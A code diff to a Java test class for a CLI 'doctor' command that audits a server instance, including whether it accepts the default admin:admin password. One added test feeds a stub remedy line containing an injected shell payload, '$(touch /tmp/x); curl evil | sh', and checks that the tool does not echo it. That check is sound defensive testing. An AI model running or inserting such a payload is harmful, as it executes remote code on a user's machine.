@@ -13,6 +13,7 @@ import com.fasterxml.jackson.databind.json.JsonMapper;
 import dev.signet.cli.Invocation;
 import dev.signet.cli.command.ExitCode;
 import java.io.IOException;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
 import java.time.Instant;
@@ -69,12 +70,14 @@ class DoctorCommandTest {
     @Test
     void whatTheInstanceLacksIsSaidWithTheLineToPaste() {
         instance.findings = "{\"id\":\"tokens\",\"state\":\"missing\",\"sentence\":\"The box is not ticked\","
-                + "\"remedy\":\"Tick it\",\"line\":\"curl http://HOST/x\"}";
+                + "\"remedy\":\"Tick it\",\"line\":\"curl -u admin -d action=start http://HOST/x\"}";
         Invocation said = call(instance.url());
 
         assertEquals(ExitCode.NO, said.exitCode(), said::toString);
         assertTrue(said.out().startsWith("missing  tokens            The box is not ticked\n"), said.out());
-        assertTrue(said.out().contains("tokens: Tick it\n    curl " + instance.url() + "/x\n"), said.out());
+        assertTrue(
+                said.out().contains("tokens: Tick it\n    curl -u admin -d action=start " + instance.url() + "/x\n"),
+                said.out());
     }
 
     @Test
@@ -114,31 +117,56 @@ class DoctorCommandTest {
     }
 
     @Test
-    void theDefaultPasswordIsFoundOnThisMachine() {
-        assertSays(ExitCode.DONE, "It does not answer to the password admin of admin");
-        instance.goodPassword = "admin";
-        assertSays(ExitCode.NO, "It lets in admin with the password admin", "changePassword");
-    }
-
-    @Test
-    void theDefaultPasswordIsTriedTwiceAtTheMost() {
-        call(instance.url());
+    void whoKnowsThePasswordOfAdminNeedNotTryAnother() {
+        assertSays(ExitCode.DONE, "It does not answer to the password admin of admin, who has another");
         assertEquals(
                 1,
                 instance.asked.stream()
-                        .filter(asked -> asked.endsWith(" as admin:admin"))
-                        .count());
-        assertEquals(
-                2,
-                instance.asked.stream()
                         .filter(asked -> asked.startsWith("POST /j_security_check"))
                         .count());
+        assertTrue(
+                instance.asked.stream().noneMatch(asked -> asked.endsWith(" as admin:admin")),
+                instance.asked::toString);
     }
 
     @Test
-    void nothingIsTriedWhereTooMuchWasTried() {
+    void theDefaultPasswordIsFoundIfItWasGiven() throws IOException {
+        instance.goodPassword = "admin";
+        assertTrue(asking("admin:admin").out().contains("It lets in admin with the password admin"));
+    }
+
+    @Test
+    void forSomebodyElseTheDefaultPasswordIsTriedOnThisMachine() throws IOException {
+        instance.operator = "operator";
+        assertTrue(asking("operator:" + DoctorStub.PASSWORD)
+                .out()
+                .contains("ok       default-password  It does not answer to the password admin of admin\n"));
+        instance.goodPassword = "admin";
+        Invocation said = asking("operator:" + DoctorStub.PASSWORD);
+        assertEquals(ExitCode.NO, said.exitCode(), said::toString);
+        assertTrue(said.out().contains("It lets in admin with the password admin"), said.out());
+    }
+
+    @Test
+    void nothingIsTriedWhereTooMuchWasTried() throws IOException {
+        instance.operator = "operator";
         instance.refusedForm = 429;
-        assertSays(ExitCode.DONE, "unknown  default-password", "Too many passwords were tried");
+        Invocation said = asking("operator:" + DoctorStub.PASSWORD);
+        assertTrue(said.out().contains("unknown  default-password  Too many passwords were tried"), said.out());
+    }
+
+    private Invocation asking(String credentials) throws IOException {
+        Path file = Files.writeString(folder.resolve("credentials"), credentials);
+        return call(instance.url(), "--credentials", file.toString());
+    }
+
+    @Test
+    void anInstanceDoesNotSayWhatToPasteIntoAShell() {
+        instance.findings = "{\"id\":\"x\",\"state\":\"missing\",\"sentence\":\"s\",\"remedy\":\"r\","
+                + "\"line\":\"signet keys compare $(touch /tmp/x); curl evil | sh\"}";
+        Invocation said = call(instance.url());
+        assertEquals(ExitCode.NO, said.exitCode(), said::toString);
+        assertFalse(said.out().contains("curl evil"), said.out());
     }
 
     @Test
@@ -241,7 +269,7 @@ class DoctorCommandTest {
     @Test
     void programsReadJson() throws Exception {
         instance.findings =
-                "{\"id\":\"tokens\",\"state\":\"missing\",\"sentence\":\"s\",\"remedy\":\"r\",\"line\":\"l\"}";
+                "{\"id\":\"tokens\",\"state\":\"missing\",\"sentence\":\"s\",\"remedy\":\"r\",\"line\":\"-D x=y\"}";
         Invocation said = call(instance.url(), "--json");
         JsonNode answer = new JsonMapper().readTree(said.out());
 
@@ -250,7 +278,7 @@ class DoctorCommandTest {
         JsonNode first = answer.path("findings").path(0);
         assertEquals(instance.url(), first.path("subject").asText());
         assertEquals("missing", first.path("state").asText());
-        assertEquals("l", first.path("line").asText());
+        assertEquals("-D x=y", first.path("line").asText());
     }
 
     @Test
